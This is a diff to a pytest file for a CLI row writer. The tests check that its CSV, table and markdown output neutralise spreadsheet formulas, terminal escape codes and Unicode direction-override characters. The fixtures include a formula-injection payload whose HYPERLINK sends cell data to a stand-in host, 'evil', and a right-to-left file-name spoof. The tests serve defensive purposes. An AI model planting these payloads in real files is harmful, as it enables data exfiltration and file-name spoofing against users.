@@ -8,11 +8,13 @@ import io
 import pytest
 
 from ebbtide_cli.formats.rows import write_rows
-from tests.faults.known import known_fault
 
 FORMATS = ("csv", "list", "table", "markdown")
 FORMULAS = ('=HYPERLINK("http://evil/?"&A1,"x")', "@SUM(1)", "+1+1", "-1+1", "\t=1+1")
-BIDI = ("a\u202egnp.exe", "\u2066x")
+BIDI = [
+    *("\u061c", "\u200e", "\u200f", "\u202a", "\u202b", "\u202c", "\u202d", "\u202e"),
+    *("\u2066", "\u2067", "\u2068", "\u2069"),
+]
 
 
 def written(capsys: pytest.CaptureFixture[str], format: str, name: str) -> str:
@@ -20,7 +22,6 @@ def written(capsys: pytest.CaptureFixture[str], format: str, name: str) -> str:
     return capsys.readouterr().out
 
 
-@known_fault("safety 5: a name that is a formula is one in the CSV, too")
 @pytest.mark.parametrize("name", FORMULAS)
 def test_a_name_is_no_formula_in_a_spreadsheet(
     capsys: pytest.CaptureFixture[str], name: str
@@ -29,30 +30,24 @@ def test_a_name_is_no_formula_in_a_spreadsheet(
     assert row[0][0] not in "=+-@\t\r"
 
 
-@pytest.mark.parametrize(
-    "format",
-    [
-        pytest.param(
-            format, marks=known_fault("safety 5: control characters pass into the CSV as they are")
-        )
-        if format == "csv"
-        else format
-        for format in FORMATS
-    ],
-)
+@pytest.mark.parametrize("format", FORMATS)
 def test_a_name_cannot_command_the_terminal(
     capsys: pytest.CaptureFixture[str], format: str
 ) -> None:
     assert "\x1b" not in written(capsys, format, "\x1b[31mred\x1b[0m")
 
 
-@known_fault("safety 5: bidirectional overrides pass in every format")
 @pytest.mark.parametrize("name", BIDI)
 @pytest.mark.parametrize("format", FORMATS)
 def test_a_name_cannot_change_the_direction_of_the_text(
     capsys: pytest.CaptureFixture[str], format: str, name: str
 ) -> None:
-    assert not set("\u202e\u2066") & set(written(capsys, format, name))
+    assert name not in written(capsys, format, f"a{name}gnp.exe")
+
+
+def test_numbers_in_a_spreadsheet_keep_their_sign(capsys: pytest.CaptureFixture[str]) -> None:
+    write_rows("csv", ["change"], [[-3], [-0.5]])
+    assert capsys.readouterr().out.splitlines() == ["change", "-3", "-0.5"]
 
 
 @pytest.mark.parametrize("format", FORMATS)
